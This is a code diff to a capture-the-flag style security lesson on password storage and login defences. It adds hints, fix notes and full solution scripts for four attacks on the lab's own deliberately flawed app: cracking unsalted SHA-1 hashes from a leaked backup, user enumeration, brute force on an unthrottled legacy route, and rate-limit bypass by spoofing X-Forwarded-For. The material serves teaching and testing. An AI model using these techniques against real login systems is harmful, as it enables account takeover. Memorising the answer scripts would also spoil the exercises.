@@ -64,22 +64,35 @@ def attack_legacy_upgrade(lab: Any, http: httpx.Client) -> Observed:
     makers = (("a sha1", legacy_sha1), ("a cheap argon2id", WEAK_ARGON2.hash))
     for label, make in (*makers, ("an argon2i", OWASP_ARGON2I.hash)):
         username, password = insert(lab, make, "legacy")
+        before = stored(lab, username)
         response = login(http, username, password)
         if not accepted(response):
-            why = " (429: is your throttle key shared by everyone?)" * (response.status_code == 429)
+            why = (
+                " (429: does throttle_key give everyone one key?)"
+                if response.status_code == 429
+                else ": verify_password refused its right password"
+            )
             return Observed(
                 True, response.status_code, f"a user with {label} hash could not log in{why}"
             )
         upgraded = stored(lab, username)
         problem = hash_problem(upgraded)
         if problem:
+            who = (
+                "needs_rehash said False for it"
+                if upgraded == before
+                else "needs_rehash said True, but hash_password stored this"
+            )
             return Observed(
-                True, 200, f"after logging in, a user with {label} hash is still {problem}"
+                True, 200, f"after logging in, a user with {label} hash is still {problem} ({who})"
             )
         again = login(http, username, password, "/v1/login")
         if not accepted(again):
             return Observed(
-                True, again.status_code, f"after its upgrade, {label} user could not log in"
+                True,
+                again.status_code,
+                f"after its upgrade, {label} user could not log in: verify_password refused "
+                "the password against the new hash",
             )
         if stored(lab, username) != upgraded:
             return Observed(
@@ -136,15 +149,15 @@ def _near_misses(http: httpx.Client, username: str, password: str) -> Observed |
         for how, guess in tries[start : start + LIMIT - 1]:
             response = login(http, username, guess)
             if response.status_code == 429:
-                why = "429 before 10 failures on one account (a throttle key everyone shares?)"
+                why = "429 before 10 failures on one account (one throttle_key for everyone?)"
                 return Observed(False, 429, why)
             if response.status_code != 401:
-                wrong = "logged in too" if accepted(response) else "got no 401"
+                wrong = "logged in too (granted too much)" if accepted(response) else "got no 401"
                 return Observed(False, response.status_code, f"the passphrase {how} {wrong}")
         for route in ("/login", "/v1/login"):
             response = login(http, username, password, route)
             if not accepted(response):
-                why = f"the passphrase itself, exactly as set, on {route}"
+                why = f"the passphrase itself, exactly as set, refused on {route} (denied too much)"
                 return Observed(False, response.status_code, why)
     return None
 
@@ -165,13 +178,81 @@ def check_exact_password(lab: Any, http: httpx.Client) -> Observed:
     return Observed(True, 200, f"the passphrase logged in; all {misses} near misses were refused")
 
 
+CRACK_STEPS = """\
+1. Read GET /backup/accounts.csv: a username and 'sha1$' + the SHA-1 of the password.
+2. SHA-1 every word of load_wordlist() once, into a dict from 'sha1$<hex>' to the word.
+3. Look each leaked hash up; log in as a customer you cracked; the answer holds the flag.
+```python
+import hashlib
+from labapp.lessons.common import load_wordlist
+
+lines = lab.client.get("/backup/accounts.csv").text.splitlines()[1:]
+leaked = dict(line.split(",") for line in lines)  # username -> "sha1$<hex>"
+table = {"sha1$" + hashlib.sha1(w.encode()).hexdigest(): w for w in load_wordlist()}
+user, password = next((u, table[h]) for u, h in leaked.items() if h in table)
+answer = lab.client.post("/login", json={"username": user, "password": password})
+lab.check_flag("crack-dump", answer.json()["flag"])
+```"""
+
+ENUMERATE_STEPS = """\
+1. Send every name in CANDIDATES to POST /v1/login with any password (it never says 429).
+2. Every name that does not exist gets 404 {"detail": "no such user"}; one gets 401 instead.
+3. That one's answer carries support_ref: it is the flag.
+```python
+from labapp.lessons.l03_passwords.app import CANDIDATES
+
+answers = {}
+for name in CANDIDATES:
+    answers[name] = lab.client.post("/v1/login", json={"username": name, "password": "x1"})
+odd = [name for name, a in answers.items() if a.json() != {"detail": "no such user"}]
+print("exists:", odd)
+lab.check_flag("enumerate-users", answers[odd[0]].json()["support_ref"])
+```"""
+
+BRUTE_STEPS = """\
+1. Try the words of load_wordlist(), in order, as frank's password on POST /v1/login.
+2. Stop at the first 200: /v1/login never counts failures, so nothing stops you before it.
+3. The 200's body holds the flag.
+```python
+from labapp.lessons.common import load_wordlist
+
+for word in load_wordlist():
+    reply = lab.client.post("/v1/login", json={"username": "frank", "password": word})
+    if reply.status_code == 200:
+        break
+lab.check_flag("brute-force", reply.json()["flag"])
+```"""
+
+BYPASS_STEPS = """\
+1. lab.audit() counts your failures 'under key' 'unknown': /login keys its count on
+   X-Forwarded-For, a header a proxy adds, your request lacked, and anyone can write.
+2. Guess grace's password on /login with a new X-Forwarded-For on every try: no key reaches 10.
+3. Stop at the first 200; its body holds the flag.
+```python
+from labapp.lessons.common import load_wordlist
+
+for n, word in enumerate(load_wordlist()):
+    claimed = {"X-Forwarded-For": f"198.51.100.{n % 250 + 1}"}  # a "new client" each time
+    guess = {"username": "grace", "password": word}
+    reply = lab.client.post("/login", json=guess, headers=claimed)
+    if reply.status_code == 200:
+        break
+lab.check_flag("throttle-bypass", reply.json()["flag"])
+```"""
+
 ATTACKS = (
     Attack(
         "crack-dump",
         "two accounts with one common password: are their stored hashes crackable or equal?",
         (
-            "GET /backup/accounts.csv: what does each hash look like? What is 'sha1$'?",
-            "SHA-1 every word of load_wordlist() and look the dump's hashes up in the result.",
+            "The API document lists an export from January 2024 that nobody removed. Read it: "
+            "what does each stored value look like, and could you compute the same kind of "
+            "value yourself, for a guess?",
+            "An offline dictionary attack on fast, unsalted hashes (CWE-759 Use of a One-Way "
+            "Hash without a Salt; CWE-916 Use of Password Hash With Insufficient Computational "
+            "Effort; OWASP Password Storage Cheat Sheet): hash every candidate once with the "
+            "same function, then look the leaked values up.",
+            CRACK_STEPS,
         ),
         attack_crack_dump,
         fix="hash_password: HASHER.hash(password), argon2id with OWASP's parameters "
@@ -182,13 +263,19 @@ ATTACKS = (
         "enumerate-users",
         "unknown user vs wrong password (new and old accounts): status, body, and argon2 work",
         (
-            "Log in as a made-up user, then as alice with a wrong password: compare the answers.",
-            "Try every name in CANDIDATES on /v1/login; the one that answers differently exists.",
+            "In Explore you failed twice: as alice, and as a name nobody has. Put the two "
+            "answers side by side. Forty failures also meet /login's limit: the API document "
+            "lists more than one way to log in.",
+            "User enumeration through an observable response discrepancy (CWE-204 Observable "
+            "Response Discrepancy; OWASP Authentication Cheat Sheet, 'Authentication and Error "
+            "Messages'; ASVS 5.0 6.3.8): any difference between 'no such user' and 'wrong "
+            "password' (status, body or time) tells which names exist.",
+            ENUMERATE_STEPS,
         ),
         attack_enumerate_users,
-        fix="failure_response: one (401, message) for both reasons; verify_password: for None "
-        "and for old sha1 hashes, one HASHER.verify of DUMMY_HASH (made once, by HASHER), "
-        "exactly the work a real check does.",
+        fix="failure_response: one (401, message) for both 'unknown-user' and 'wrong-password'; "
+        "verify_password: for None and for old 'sha1$' hashes, one HASHER.verify(DUMMY_HASH, "
+        "password), with DUMMY_HASH made once by HASHER: the same argon2 work as a real check.",
     ),
     Attack(
         "legacy-compare",
@@ -202,8 +289,14 @@ ATTACKS = (
         "brute-force",
         "20 wrong guesses on the old /v1/login, and 6 + 6 across both routes, then the right one",
         (
-            "/login says 429 after 10 failures. Does /v1/login ever say it?",
-            "Loop over load_wordlist() against /v1/login for frank; stop at the first 200.",
+            "You met /login's limit (or try it: ten wrong passwords in a row). Which way in did "
+            "attack 2 use without ever seeing a 429, and what is it kept for?",
+            "An online dictionary attack through a route without a limit (CWE-307 Improper "
+            "Restriction of Excessive Authentication Attempts; OWASP API Security Top 10 2023 "
+            "API2:2023 Broken Authentication, brute force 'without presenting captcha/account "
+            "lockout mechanism', and API9:2023 Improper Inventory Management, an old API "
+            "version left running).",
+            BRUTE_STEPS,
         ),
         attack_brute_force,
         fix="throttle_key: the username on every route, /v1/login included; never None.",
@@ -213,12 +306,19 @@ ATTACKS = (
         "20 wrong guesses on /login, each from a 'new client' (X-Forwarded-For, Host, "
         "User-Agent, every header a client writes), then the right one",
         (
-            "What does throttle_key count failures under? Who writes that header?",
-            "Send X-Forwarded-For: 203.0.113.<n> with a new n for every guess at grace.",
+            "Guess at grace on /login until it answers 429, then read lab.audit(): every "
+            "failure says which key it was counted 'under'. Where could that key come from, "
+            "and who chooses it?",
+            "A rate-limit bypass by spoofing the client's address: the limit trusts "
+            "X-Forwarded-For, a header the client writes (CWE-348 Use of Less Trusted Source; "
+            "PortSwigger Web Security Academy, 'Flawed brute-force protection'). OWASP's "
+            "Authentication Cheat Sheet ('Account Lockout'): the counter 'should be associated "
+            "with the account itself, rather than the source IP address'.",
+            BYPASS_STEPS,
         ),
         attack_throttle_bypass,
         fix="throttle_key: count failures per account (the username), never per a header "
-        "the client writes.",
+        "the client writes; failure_response('throttled'): (429, message).",
     ),
     Attack(
         "login-burst",
@@ -235,14 +335,23 @@ ATTACKS = (
         "OWASP argon2id, once",
         ("needs_rehash says False for everything.",),
         attack_legacy_upgrade,
-        fix="verify_password must still accept 'sha1$' hashes; needs_rehash: True for "
-        "anything that is not argon2id or when HASHER.check_needs_rehash says so, else False.",
+        fix="needs_rehash: True for anything that is not argon2id or when "
+        "HASHER.check_needs_rehash says so, else False; verify_password must still accept "
+        "'sha1$' hashes (and argon2i ones: HASHER.verify reads any argon2).",
         flag=False,
     ),
 )
 
+DENIED = "denied too much: "
 CHECKS = (
-    Check("customer-login", "a customer logs in and the token works on GET /me", check_customer),
+    Check(
+        "customer-login",
+        "a customer logs in and the token works on GET /me",
+        check_customer,
+        hint=DENIED + "a customer registered through hash_password could not log in with the "
+        "right password: verify_password must return True when HASHER.verify(stored_hash, "
+        "password) succeeds, and needs_rehash False (not None) for a hash made today.",
+    ),
     Check(
         "wrong-password-refused",
         "a wrong password gets 401, then the right one works",
@@ -254,19 +363,31 @@ CHECKS = (
         "old-account-login",
         "an account from 2016 (a sha1 hash) logs in on both routes",
         check_old_account,
+        hint=DENIED + "an account whose stored hash is an old 'sha1$' one could not log in: "
+        "verify_password must still check those, with hmac.compare_digest(stored_hash, "
+        "old_sha1_hash(password)) (needs_rehash then upgrades them).",
     ),
-    Check("register-then-login", "a new customer registers, then logs in", check_register),
+    Check(
+        "register-then-login",
+        "a new customer registers, then logs in",
+        check_register,
+        hint=DENIED + "POST /register stores hash_password(password) (a non-empty str); "
+        "verify_password must then accept the same password against it.",
+    ),
     Check(
         "exact-password",
         "a long passphrase (spaces, accents, capitals) logs in as set; 12 near misses do not",
         check_exact_password,
         hint="hash_password and verify_password: use the password exactly as received, "
         "whatever its length (up to 1024) or characters: no .lower(), .strip(), slicing or "
-        "unicodedata.normalize (ASVS 5.0 6.2.8).",
+        "unicodedata.normalize (ASVS 5.0 6.2.8); a near miss let in was granted too much, "
+        "the passphrase refused was denied too much.",
     ),
     Check(
         "other-account-unaffected",
         "after one account is throttled, another still logs in on both routes",
         check_other_account,
+        hint=DENIED + "one account's failures locked another out: throttle_key must be the "
+        "username, so that every account has a count of its own.",
     ),
 )
